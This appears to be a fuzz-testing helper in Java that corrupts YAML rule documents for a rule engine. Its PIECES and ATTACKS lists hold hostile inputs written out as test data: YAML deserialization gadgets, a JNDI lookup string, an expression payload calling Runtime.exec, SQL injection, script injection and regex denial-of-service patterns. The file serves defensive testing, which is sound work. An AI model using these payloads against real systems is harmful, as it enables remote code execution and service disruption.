package io.kairos.engine.rule;

import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import java.util.regex.MatchResult;
import java.util.regex.Pattern;

/** Spoils rule documents: characters, pieces of YAML, values that change places, conditions. */
final class Mutations {
  private static final Pattern VALUE = Pattern.compile("(?<=\\w: )[^,{}\\[\\]\\n]+");
  private static final Pattern CONDITION =
      Pattern.compile("(?<=\\b(?:when|where|if|becomes|category): )[^,{}\\[\\]\\n]+");

  private static final List<String> PIECES =
      List.of(
          "&a ",
          "*a",
          "*id001",
          "<<: *a",
          "<<: {id: x}",
          "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[]]]",
          "!!io.kairos.engine.rule.Trap {}",
          "!<tag:yaml.org,2002:io.kairos.engine.rule.Trap> ",
          "!!binary \"AAAA\"",
          "!!set {a, b}",
          "!!float ",
          "!local ",
          "%YAML 1.1\n---\n",
          "%TAG ! tag:x,2000:\n---\n",
          "---\n",
          "...\n",
          "? ",
          ": ",
          "- ",
          "{",
          "}",
          "[",
          "]",
          "[]",
          "{}",
          "|\n  ",
          ">-\n  ",
          "#",
          "'",
          "\"",
          "\"\\u0000\\ud83c\"",
          "`",
          "@",
          "%",
          "\t",
          "\r\n",
          "\u0000",
          "\u0085",
          "\u2028",
          "\u202e",
          "\ufeff",
          "\ud800",
          "💥",
          "ｐｕｓｈ",
          "null",
          "~",
          "yes",
          "NaN",
          ".inf",
          "-.inf",
          "1e999",
          "-1",
          "0x7fffffff",
          "9223372036854775808",
          "999999999d",
          "2147483648",
          "100.0000001%",
          "9".repeat(400),
          "x".repeat(5000),
          "2026-02-30",
          "+999999999-12-31T23:59:59+18:00",
          "+999999999-12-31",
          "-999999999-01-01",
          "a" + "-a".repeat(4_000),
          "24:00",
          "month on 32",
          "${jndi:ldap://host/a}",
          "{{7*7}}",
          "\nrules: []\n",
          "\nid: other\n",
          "\nevent: view\n",
          "\nbecomes: orders.count > 1\n");

  private static final List<String> ATTACKS =
      List.of(
          "T(java.lang.Runtime).getRuntime().exec('id')",
          "''.getClass().forName('io.kairos.engine.rule.Trap') != ''",
          "io.kairos.engine.rule.Trap{x: 1}",
          "new io.kairos.engine.rule.Trap()",
          "customer.city.matches('(a+)+$')",
          "tier == '((((a*)*)*)*)*b'",
          "(".repeat(10_000) + "1" + ")".repeat(10_000),
          "\"" + "[".repeat(900) + "\"",
          "\"" + "!".repeat(1900) + "activity.bot\"",
          "tier == 'x'" + " && tier == 'x'".repeat(120),
          "cart.value > " + "9".repeat(400),
          "1" + " + 1".repeat(190) + " > cart.value / 0",
          "function(){return 1}()",
          "<script>alert(1)</script>",
          "'; DROP TABLE rules; --",
          "orders.count == 0 / 0",
          "lookup('places', tier) == lookup('x', tier)",
          "segment(tier)",
          "boughtWithin('tea', 1e9)",
          "interest(interest('a'))",
          "known(known(tier))",
          "now() > 1",
          "timestamp('2020-01-01T00:00:00Z') < now",
          "\"[1, 2].map(x, x * x).all(y, y > 0)\"",
          "cart.count in [1]");

  private final Random random;

  Mutations(Random random) {
    this.random = random;
  }

  /** The text after a few mutations, mostly one. */
  String of(String text, List<String> others) {
    StringBuilder spoilt = new StringBuilder(text);
    for (int i = random.nextInt(4) / 2; i >= 0; i--) {
      spoil(spoilt, others);
    }
    return spoilt.toString();
  }

  private void spoil(StringBuilder text, List<String> others) {
    int at = random.nextInt(text.length() + 1);
    switch (random.nextInt(12)) {
      case 0 -> text.insert(at, (char) random.nextInt(random.nextBoolean() ? 128 : 0x10000));
      case 1 -> text.delete(at, Math.min(text.length(), at + 1 + random.nextInt(6)));
      case 2, 3 -> text.insert(at, of(PIECES));
      case 4, 5 -> replace(text, VALUE, of(PIECES));
      case 6 -> replace(text, CONDITION, of(ATTACKS));
      case 7 -> replace(text, VALUE, nested());
      case 8 -> lines(text);
      case 9 -> replace(text, VALUE, value(of(others)));
      case 10 -> text.insert(at, fragment(of(others)));
      default -> replace(text, VALUE, value(text.toString()));
    }
  }

  /** One that a pattern finds is replaced. */
  private void replace(StringBuilder text, Pattern pattern, String by) {
    List<MatchResult> found = pattern.matcher(text).results().toList();
    if (!found.isEmpty()) {
      MatchResult one = found.get(random.nextInt(found.size()));
      text.replace(one.start(), one.end(), by);
    }
  }

  private String value(String text) {
    List<MatchResult> found = VALUE.matcher(text).results().toList();
    return found.isEmpty() ? "" : found.get(random.nextInt(found.size())).group();
  }

  private String fragment(String text) {
    int from = random.nextInt(text.length());
    return text.substring(from, Math.min(text.length(), from + random.nextInt(60)));
  }

  private String nested() {
    int deep = random.nextInt(8) == 0 ? 10_000 : 1 + random.nextInt(40);
    String open = random.nextBoolean() ? "[" : "{a: ";
    return open.repeat(deep) + "x" + (open.equals("[") ? "]" : "}").repeat(deep);
  }

  /** One line is doubled, left out, indented or changes places. */
  private void lines(StringBuilder text) {
    List<String> lines = new ArrayList<>(text.toString().lines().toList());
    if (lines.isEmpty()) {
      return;
    }
    String line = lines.get(random.nextInt(lines.size()));
    switch (random.nextInt(4)) {
      case 0 -> lines.add(line);
      case 1 -> lines.remove(line);
      case 2 -> lines.set(lines.indexOf(line), "  " + line);
      default -> {
        lines.remove(line);
        lines.add(random.nextInt(lines.size() + 1), line);
      }
    }
    text.setLength(0);
    text.append(String.join("\n", lines));
  }

  private String of(List<String> values) {
    return values.get(random.nextInt(values.size()));
  }
}
